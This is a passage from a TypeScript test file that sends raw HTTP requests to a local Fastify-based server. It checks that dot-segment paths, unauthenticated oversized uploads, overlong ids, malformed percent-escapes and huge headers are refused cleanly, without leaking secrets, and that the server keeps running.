  describe('over a real socket', () => {
    let port: number;
    beforeAll(async () => {
      await t.app.listen({ host: '127.0.0.1', port: 0 });
      port = (t.app.server.address() as AddressInfo).port;
    });

    it('answers a path with dot segments that URL parsing keeps as an id with invalid_id', async () => {
      const response = await send(port, 'GET', `${CW}/..`, { authorization: `Bearer ${t.rootKey}` });
      expect(response.status).toBe(400);
      expect(JSON.parse(response.body)).toMatchObject({ code: 'invalid_id' });
    });

    it('refuses an unauthenticated upload before reading it', async () => {
      const total = 64 * MIB;
      const response = await send(port, 'POST', CW, { 'content-type': 'application/json', 'content-length': total }, total);
      expect(response.status).toBe(401);
      expect(JSON.parse(response.body)).toMatchObject({ code: 'unauthorized' });
      // The answer came while most of the body was still unsent.
      expect(response.sentBytes).toBeLessThan(total / 2);
      await expectStillServing();
    });

    // Refused by Fastify's router before any route, hook or error handler of ours runs, so
    // these carry Fastify's own error shape (`FST_ERR_*` codes), not ours.
    it.each([
      ['an id longer than the router accepts', `${CW}/${'a'.repeat(5000)}`],
      ['a malformed percent-escape in the path', `${CW}/%E0%A4%A`],
    ])('refuses %s with a 4xx JSON answer and keeps serving', async (_name, path) => {
      const response = await send(port, 'GET', path, { authorization: `Bearer ${t.rootKey}` });
      expectForeignRefusal(response.status, response.body);
      await expectStillServing();
    });

    it('refuses a 1 MiB header value in the HTTP parser and keeps serving', async () => {
      // Node stops reading at its 16 KiB header limit, answers 431 and closes the socket with
      // our bytes unread, so the client may see the reset before the answer.
      const response = await send(port, 'GET', CW, { authorization: `Bearer ${t.rootKey}`, 'x-padding': 'a'.repeat(MIB) }).catch(
        (error: NodeJS.ErrnoException) => String(error.code),
      );
      if (typeof response === 'string') expect(['ECONNRESET', 'EPIPE']).toContain(response);
      else expectForeignRefusal(response.status, response.body);
      await expectStillServing();
    });

    function expectForeignRefusal(status: number, body: string): void {
      expect(status).toBeGreaterThanOrEqual(400);
      expect(status).toBeLessThan(500);
      expect(JSON.parse(body)).toMatchObject({ message: expect.any(String) });
      for (const leak of LEAK_PATTERNS) expect(body).not.toMatch(leak);
      expect(body).not.toContain(t.rootKey);
    }
  });
});

function escapeRegExp(text: string): string {
  return text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
}

/** One raw HTTP/1.1 request; a `bodyBytes` body is streamed until the answer arrives. */
function send(
  port: number,
  method: string,
  path: string,
  headers: Record<string, string | number>,
  bodyBytes = 0,
): Promise<{ status: number; body: string; sentBytes: number }> {
  return new Promise((resolve, reject) => {
    let sentBytes = 0;
    let answered = false;
    const request = http.request({ host: '127.0.0.1', port, method, path, headers, agent: false });
    request.on('response', (response) => {
      answered = true;
      let body = '';
      response.setEncoding('utf8');
      response.on('data', (chunk: string) => (body += chunk));
      response.on('end', () => {
        resolve({ status: response.statusCode ?? 0, body, sentBytes });
        request.destroy();
      });
    });
    // The server may close the connection on an oversized request while we still write.
    request.on('error', (error) => {
      if (!answered) reject(error);
    });
    const chunk = Buffer.alloc(64 * 1024, 0x20);
    const pump = () => {
      while (!answered && sentBytes < bodyBytes) {
        sentBytes += chunk.length;
        if (!request.write(chunk)) return void request.once('drain', pump);
      }
      if (!answered) request.end();
    };
    pump();
  });
}
